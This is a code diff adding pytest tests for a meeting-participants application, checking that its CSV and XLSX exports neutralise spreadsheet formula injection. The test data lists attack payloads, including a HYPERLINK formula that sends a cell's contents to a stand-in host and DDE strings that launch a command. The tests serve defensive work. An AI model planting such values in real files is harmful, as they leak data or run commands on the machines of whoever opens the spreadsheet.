@@ -152,3 +152,74 @@ def test_the_public_list_names_no_one_before_a_list_is_issued(db, client, monkey
     )
     rows = read_csv(get(client, "/api/meetings/BWC/MSP/2018/participants.csv").content)
     assert [(r["code"], r["name"], r["role"]) for r in rows] == [(first.code, "", "")]
+
+
+# Values a delegate or an NGO could type that a spreadsheet would run as formulas (OWASP's
+# payloads, and the full-width forms some CJK spreadsheets read as the same).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+41 22 917 12 34",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+
+
+def payload_delegation():
+    meeting = Meeting.objects.get(series="BWC/MSP/2018")
+    (state,) = parties_on(meeting, 1)
+    register_delegation(
+        meeting,
+        by=Actor.system("test"),
+        state=state,
+        members=[
+            {"name": value, "honorific": "Ms", "function": value, "role": "head" if i == 0 else "member"}
+            for i, value in enumerate(FORMULAS)
+        ],
+    )
+    return meeting
+
+
+def test_no_value_in_a_csv_export_starts_a_formula(db, client):
+    meeting = payload_delegation()
+    rows = read_csv(get(client, "/api/meetings/BWC/MSP/2018/participants.csv").content)
+    # (The domain strips the tab and the carriage return; what is left starts a formula too.)
+    assert [(r["name"], r["function"]) for r in rows] == [
+        ("'" + v.strip(), "'" + v.strip()) for v in FORMULAS
+    ]
+    from plenary.exports.tables import badges_file
+
+    content, _name, _mime = badges_file(meeting, "csv")
+    functions = [r["function"] for r in read_csv(content)]
+    assert functions == ["'" + v.strip() for v in FORMULAS]
+
+
+def test_no_cell_of_an_xlsx_export_is_a_formula(db, client):
+    meeting = payload_delegation()
+    from plenary.exports.tables import badges_file
+
+    for content in (
+        get(client, "/api/meetings/BWC/MSP/2018/participants.xlsx").content,
+        badges_file(meeting, "xlsx")[0],
+    ):
+        sheet = load_workbook(io.BytesIO(content)).active
+        cells = [c for row in sheet.iter_rows() for c in row]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == []
+        header = [c.value for c in sheet[1]]
+        functions = [row[header.index("function")] for row in sheet.iter_rows(min_row=2, values_only=True)]
+        assert functions == ["'" + v.strip() for v in FORMULAS]
+
+
+def test_ordinary_values_are_left_as_they_are():
+    from plenary.exports.tables import neutralised
+
+    assert [neutralised(v) for v in ["Ms A. Head", "", 12, -3, "a=b", "BWC/MSP/2017/6"]] == [
+        "Ms A. Head",
+        "",
+        12,
+        -3,
+        "a=b",
+        "BWC/MSP/2017/6",
+    ]
